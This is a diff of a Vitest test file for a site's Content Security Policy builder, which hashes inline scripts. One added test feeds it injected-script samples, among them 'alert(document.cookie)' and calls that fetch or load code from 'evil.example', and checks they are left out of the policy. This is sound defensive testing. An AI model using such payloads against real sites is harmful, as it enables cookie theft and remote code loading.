@@ -3,6 +3,7 @@ import { createHash } from 'node:crypto';
 import { afterEach, describe, expect, it, vi } from 'vitest';
 
 import { contentSecurityPolicy } from '../lib/security/policy.js';
+import { themeScript } from '../lib/security/theme-script.js';
 import { classify, isEditorPage, policyForHtml } from './html-policy.js';
 
 const sha = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
@@ -17,11 +18,17 @@ describe('classify', () => {
     for (const contentType of ['application/json', 'text/x-component', 'application/rss+xml', 'text/htmlx', ''])
       expect(classify({ method: 'GET', status: 200, contentType }), contentType).toBe('other');
   });
+
+  it('gives an HTML file served as it is (public/, build assets) the base policy: it is a file, not a page', () => {
+    for (const url of ['/images/a.html', '/js/x.html', '/pagefind/x.html', '/_next/static/x.html'])
+      expect(classify({ method: 'GET', url, status: 200, contentType: 'text/html' }), url).toBe('other');
+    expect(classify({ method: 'GET', url: '/images-of-the-year', status: 200, contentType: 'text/html' })).toBe('html');
+  });
 });
 
 describe('policyForHtml', () => {
   it('lists the hash of every script the browser runs, once, and none of data blocks or external scripts', () => {
-    const theme = 'document.documentElement.dataset.js=""';
+    const theme = themeScript;
     const payload = 'self.__next_f.push([1,"Seoul ✓"])';
     const html = Buffer.from(
       `<html><head><script>${theme}</script><script src="/a.js"></script>` +
@@ -43,6 +50,21 @@ describe('policyForHtml', () => {
     );
     expect(policyForHtml(html, {})).toContain('frame-src https://www.youtube-nocookie.com');
     expect(policyForHtml(Buffer.from('<figure><img src="/a.jpg" alt=""></figure>'), {})).not.toContain('frame-src');
+  });
+
+  it('leaves out an inline script of no shape the site emits: the browser then refuses it', () => {
+    const payload = 'self.__next_f.push([1,"Seoul"])';
+    const foreign = [
+      'alert(document.cookie)',
+      'self.__next_f.push([1,"x"]);alert(1)//)',
+      'self.__next_f.push([1,fetch("//evil.example")])',
+      `${themeScript};alert(1)`,
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["//evil.example/x.js"]});',
+    ];
+    const html = Buffer.from(
+      `<html><body><script>${payload}</script>${foreign.map((text) => `<script>${text}</script>`).join('')}</body></html>`,
+    );
+    expect(policyForHtml(html, {})).toBe(contentSecurityPolicy([sha(payload)]));
   });
 
   it('gives a document without inline scripts the policy without hashes', () => {
